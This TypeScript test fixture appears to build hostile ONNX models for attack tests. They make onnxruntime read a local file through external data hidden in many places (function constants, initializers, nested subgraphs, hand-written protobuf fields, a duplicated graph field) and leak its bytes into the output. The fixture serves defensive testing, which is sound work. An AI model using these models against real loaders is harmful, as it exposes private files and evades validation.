/**
 * Hostile ONNX files for the attack tests: models that make onnxruntime read a file beside them (or
 * beside the loading process) through *external data*, hidden in every place a tensor can live.
 */
import onnxProto from "onnx-proto";

const onnx = onnxProto.onnx;
type TensorProto = onnxProto.onnx.ITensorProto;
type GraphProto = onnxProto.onnx.IGraphProto;

const FLOAT = onnx.TensorProto.DataType.FLOAT;
const EXTERNAL = onnx.TensorProto.DataLocation.EXTERNAL;
const T = onnx.AttributeProto.AttributeType;

/** A float32 tensor whose `elements` values are read from `location` (relative to the model's folder). */
export function externalTensor(name: string, location: string, elements: number): TensorProto {
  return {
    name,
    dataType: FLOAT,
    dims: [elements],
    dataLocation: EXTERNAL,
    externalData: [
      { key: "location", value: location },
      { key: "offset", value: "0" },
      { key: "length", value: String(elements * 4) },
    ],
  };
}

function inlineTensor(name: string, elements: number): TensorProto {
  return { name, dataType: FLOAT, dims: [elements], rawData: new Uint8Array(elements * 4) };
}

function valueInfo(name: string, elements: number): onnxProto.onnx.IValueInfoProto {
  return { name, type: { tensorType: { elemType: FLOAT, shape: { dim: [{ dimValue: elements }] } } } };
}

/** A graph y = x + s, where `s` comes from `sNodes`/`initializer`. */
function graph(elements: number, parts: { nodes?: onnxProto.onnx.INodeProto[]; initializer?: TensorProto[]; sparse?: onnxProto.onnx.ISparseTensorProto[] }): GraphProto {
  return {
    name: "g",
    input: [valueInfo("x", elements)],
    output: [valueInfo("y", elements)],
    node: [...(parts.nodes ?? []), { opType: "Add", input: ["x", "s"], output: ["y"], name: "add" }],
    initializer: parts.initializer ?? [],
    sparseInitializer: parts.sparse ?? [],
  };
}

function varint(n: number): Buffer {
  const out: number[] = [];
  while (n >= 0x80) {
    out.push((n & 0x7f) | 0x80);
    n = Math.floor(n / 128);
  }
  out.push(n);
  return Buffer.from(out);
}

/** A length-delimited protobuf field, written by hand. */
function field(number: number, payload: Uint8Array): Buffer {
  return Buffer.concat([varint(number * 8 + 2), varint(payload.byteLength), payload]);
}

function encode(model: onnxProto.onnx.IModelProto): Uint8Array {
  return onnx.ModelProto.encode(onnx.ModelProto.create(model)).finish();
}

const OPSETS = [{ domain: "", version: 17 }];

/**
 * The exploit of issue 13: a model-local function whose Constant carries external data at a relative
 * path. onnxruntime inlines the function; loaded from bytes, it reads `location` relative to the
 * process's working directory and the output y = x + secret carries the file's bytes.
 */
export function functionConstantExfiltration(location: string, elements: number): Uint8Array {
  return encode({
    irVersion: 8,
    opsetImport: [...OPSETS, { domain: "evil", version: 1 }],
    producerName: "attack",
    functions: [
      {
        name: "Leak",
        domain: "evil",
        input: [],
        output: ["c"],
        opsetImport: OPSETS,
        node: [{ opType: "Constant", output: ["c"], attribute: [{ name: "value", type: T.TENSOR, t: externalTensor("c", location, elements) }] }],
      },
    ],
    graph: graph(elements, { nodes: [{ opType: "Leak", domain: "evil", input: [], output: ["s"], name: "leak" }] }),
  });
}

/** Every other place a tensor can hide external data, by name. */
export function externalDataVariants(location: string, elements: number): Record<string, Uint8Array> {
  const ext = () => externalTensor("s", location, elements);
  const constant = (t: TensorProto) => ({ opType: "Constant", output: ["s"], attribute: [{ name: "value", type: T.TENSOR, t }] });
  const benign = graph(elements, { initializer: [inlineTensor("s", elements)] });
  const base = { irVersion: 8, opsetImport: OPSETS };
  const nested: GraphProto = { name: "then", output: [valueInfo("s_then", elements)], node: [{ ...constant(ext()), output: ["s_then"] }] };
  const elseBranch: GraphProto = { name: "else", output: [valueInfo("s_else", elements)], node: [{ ...constant(inlineTensor("z", elements)), output: ["s_else"] }] };
  const ifNode = (thenBranch: GraphProto) => ({
    opType: "If",
    input: ["cond"],
    output: ["s"],
    attribute: [
      { name: "then_branch", type: T.GRAPH, g: thenBranch },
      { name: "else_branch", type: T.GRAPH, g: elseBranch },
    ],
  });
  const condInit: TensorProto = { name: "cond", dataType: onnx.TensorProto.DataType.BOOL, dims: [], int32Data: [1] };
  // An If inside an If's branch: the external tensor two subgraphs deep.
  const deeper: GraphProto = { name: "outer_then", output: [valueInfo("s_then", elements)], node: [{ ...ifNode(nested), output: ["s_then"] }], initializer: [] };
  return {
    "graph initializer": encode({ ...base, graph: graph(elements, { initializer: [ext()] }) }),
    "graph initializer (data_location only)": encode({ ...base, graph: graph(elements, { initializer: [{ ...inlineTensor("s", elements), dataLocation: EXTERNAL }] }) }),
    "sparse initializer values": encode({
      ...base,
      graph: graph(elements, { sparse: [{ dims: [elements], values: { ...externalTensor("s", location, 1), dims: [1] }, indices: { name: "i", dataType: onnx.TensorProto.DataType.INT64, dims: [1], int64Data: [0] } }] }),
    }),
    "Constant value attribute": encode({ ...base, graph: graph(elements, { nodes: [constant(ext())] }) }),
    "attribute tensors list": encode({ ...base, graph: graph(elements, { nodes: [{ opType: "Custom", domain: "x", output: ["s"], attribute: [{ name: "ts", type: T.TENSORS, tensors: [inlineTensor("a", 1), ext()] }] }] }) }),
    "attribute sparse_tensor": encode({
      ...base,
      graph: graph(elements, { nodes: [{ opType: "Constant", output: ["s"], attribute: [{ name: "sparse_value", type: T.SPARSE_TENSOR, sparseTensor: { dims: [elements], values: ext(), indices: { name: "i", dataType: 7, dims: [elements], int64Data: Array.from({ length: elements }, (_, i) => i) } } }] }] }),
    }),
    "If then_branch subgraph": encode({ ...base, graph: { ...graph(elements, { nodes: [ifNode(nested)] }), initializer: [condInit] } }),
    "If subgraph two levels deep": encode({ ...base, graph: { ...graph(elements, { nodes: [ifNode(deeper)] }), initializer: [condInit] } }),
    "Loop body graphs list": encode({ ...base, graph: graph(elements, { nodes: [{ opType: "Custom", domain: "x", output: ["s"], attribute: [{ name: "bodies", type: T.GRAPHS, graphs: [nested] }] }] }) }),
    // FunctionProto.attribute_proto (field 11, default attribute values) is newer than onnx-proto's
    // schema: written by hand, and invisible to any check made on a decoded object.
    "function default attribute": Buffer.concat([
      encode({ ...base, opsetImport: [...OPSETS, { domain: "evil", version: 1 }], graph: benign }),
      field(
        25,
        Buffer.concat([
          onnx.FunctionProto.encode(onnx.FunctionProto.create({ name: "F", domain: "evil", output: ["c"], opsetImport: OPSETS, node: [constant(inlineTensor("c", elements))] })).finish(),
          field(11, onnx.AttributeProto.encode(onnx.AttributeProto.create({ name: "w", type: T.TENSOR, t: ext() })).finish()),
        ]),
      ),
    ]),
    "training info initialization graph": encode({ ...base, graph: benign, trainingInfo: [{ initialization: { name: "init", node: [constant(ext())] } }] }),
    // protobufjs keeps the last copy of a singular message field; onnxruntime's C++ protobuf merges
    // both: the first graph's external initializer is loaded although a decoded object never shows it.
    "duplicated graph field": Buffer.concat([encode({ ...base, graph: graph(elements, { initializer: [ext()] }) }), encode({ graph: benign })]),
  };
}

/** A model with nothing external: y = x + 0. */
export function benignModel(elements: number): Uint8Array {
  return encode({ irVersion: 8, opsetImport: OPSETS, graph: graph(elements, { initializer: [inlineTensor("s", elements)] }) });
}
